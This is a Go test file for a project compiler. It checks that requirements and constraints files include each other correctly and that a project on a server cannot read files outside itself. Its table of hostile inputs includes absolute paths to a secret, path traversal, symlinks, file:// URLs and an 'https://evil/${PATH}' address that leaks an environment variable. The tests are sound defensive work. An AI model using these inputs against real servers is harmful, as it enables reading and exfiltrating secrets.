package module_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"

	"ordain.dev/ordain/compiler/module"
)

// Files of the project may be included, as requirements and as constraints, once each.
func TestRequirementsIncludeFilesOfTheProject(t *testing.T) {
	p := opened(t, project(t, map[string]string{
		"project.yml":             "name: x\nmodulepath: libs\n",
		"requirements.txt":        "-r more/base.txt\none\n-c more/limits.txt\n",
		"more/base.txt":           "two # of base\n-r ../last.txt\n-r base.txt\n",
		"more/limits.txt":         "-r deeper.txt\ntwo<3\n",
		"more/deeper.txt":         "one<2",
		"last.txt":                "three==1 \\\n  --hash=sha256:ab\n",
		"libs/a/module.yml":       "name: a\nversion: 1.0\nlicense: x\n",
		"libs/a/dev/x.txt":        "four\n",
		"libs/a/requirements.txt": "--requirement dev/x.txt\n",
	}))
	p.Root = p.Dir
	got, err := p.Requirements()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"two", "three==1 --hash=sha256:ab", "one", "four", "inmanta-module-std"}
	if d := gocmp.Diff(want, got); d != "" {
		t.Errorf("want -, got +:\n%s", d)
	}
	if d := gocmp.Diff([]string{"one<2", "two<3"}, p.Constraints()); d != "" {
		t.Errorf("constraints: want -, got +:\n%s", d)
	}
}

func opened(t *testing.T, dir string) *module.Project {
	t.Helper()
	p, err := module.OpenProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// A project on the server tries to read a file of the server, through its own
// requirements or those of a module. The error names the file and the line of the
// project, and nothing of the other file, not even whether it exists.
func TestRequirementsReadNothingOutsideOfTheProject(t *testing.T) {
	outside := t.TempDir()
	secret := filepath.Join(outside, "key")
	if err := os.WriteFile(secret, []byte("s3cr3t-key\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	const libs = "libs/a/requirements.txt"
	for name, c := range map[string]struct {
		file, text, link string // a link named link leads outside
		at               string
	}{
		"absolute":             {"requirements.txt", "ok\n-r " + secret, "", "requirements.txt:2"},
		"a constraint":         {"requirements.txt", "-c " + secret, "", "requirements.txt:1"},
		"upward":               {"requirements.txt", "--requirement=../../../../.." + secret, "", "requirements.txt:1"},
		"through a folder":     {"requirements.txt", "\n\n-r in/key", "in", "requirements.txt:3"},
		"a name that is not":   {"requirements.txt", "-r in/nothing", "in", "requirements.txt:1"},
		"in a module":          {libs, "-r " + secret, "", libs + ":1"},
		"out of a module":      {libs, "-r ../../project.yml", "", libs + ":1"},
		"the file is a link":   {"", "", "requirements.txt", "requirements.txt:1"},
		"a module's is a link": {"", "", libs, libs + ":1"},
		"an index":             {libs, "--index-url file://" + outside, "", libs + ":1"},
		"find-links":           {"requirements.txt", "-f" + outside, "", "requirements.txt:1"},
		"editable":             {"requirements.txt", "-e " + outside, "", "requirements.txt:1"},
		"an address":           {"requirements.txt", "x @ file://" + secret, "", "requirements.txt:1"},
		"a variable":           {"requirements.txt", "x @ https://evil/${PATH}", "", "requirements.txt:1"},
	} {
		t.Run(name, func(t *testing.T) {
			files := map[string]string{
				"project.yml":       "name: x\nmodulepath: libs\n",
				"libs/a/module.yml": "name: a\nversion: 1.0\nlicense: x\n",
			}
			if c.file != "" {
				files[c.file] = c.text
			}
			dir := project(t, files)
			if c.link != "" {
				target := outside
				if strings.HasSuffix(c.link, ".txt") {
					target = secret
				}
				if err := os.Symlink(target, filepath.Join(dir, c.link)); err != nil {
					t.Fatal(err)
				}
			}
			p := opened(t, dir)
			p.Root = dir
			lines, err := p.Requirements()
			var e *module.Error
			if !errors.As(err, &e) ||
				!strings.HasSuffix(e.At.String(), c.at+":1") && !strings.HasSuffix(e.At.String(), c.at) {
				t.Fatalf("got %v, %v, want an error at %s", lines, err, c.at)
			}
			if all := e.Error() + e.Hint; strings.Contains(all, "s3cr3t") || strings.Contains(all, outside) {
				t.Errorf("the error says too much: %s", all)
			}
			if strings.Contains(strings.Join(p.Constraints(), " "), "s3cr3t") {
				t.Errorf("constraints of a foreign file: %v", p.Constraints())
			}
		})
	}
}

// Modules outside of the repository are not those of a project on the server.
func TestModulesOutsideOfTheRepositoryBringNoRequirements(t *testing.T) {
	other := project(t, map[string]string{
		"b/module.yml":       "name: b\nversion: 1.0\nlicense: x\nrequires: [c<2]\n",
		"b/requirements.txt": "internal-package\n",
	})
	p := opened(t, project(t, map[string]string{"project.yml": "name: x\nmodulepath: " + other + "\n"}))
	if got, err := p.Requirements(); err != nil || len(got) != 2 {
		t.Errorf("a person's own project: %v, %v", got, err)
	}
	p.Root = p.Dir
	if got, err := p.Requirements(); err != nil || len(got) != 1 || len(p.Constraints()) != 0 {
		t.Errorf("on the server: %v, %v, %v", got, p.Constraints(), err)
	}
}
